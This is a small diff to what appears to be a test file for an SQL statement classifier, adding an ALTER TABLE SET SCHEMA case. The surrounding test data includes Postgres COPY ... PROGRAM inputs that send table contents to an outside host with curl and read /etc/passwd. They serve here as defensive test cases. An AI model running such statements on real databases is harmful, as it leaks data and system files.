@@ -69,6 +69,7 @@ ALLOW = ("allow", None)
         ("alter table orders rename column note to remark", ALTER),
         ("alter table orders rename constraint c to d", ALTER),
         ("alter table if exists only orders rename note to remark", ALTER),
+        ("alter table orders set schema archive", ALTER),
         # COPY ... PROGRAM
         ("copy orders to program 'curl -d @- http://x'", COPY),
         ("copy orders from program 'cat /etc/passwd'", COPY),
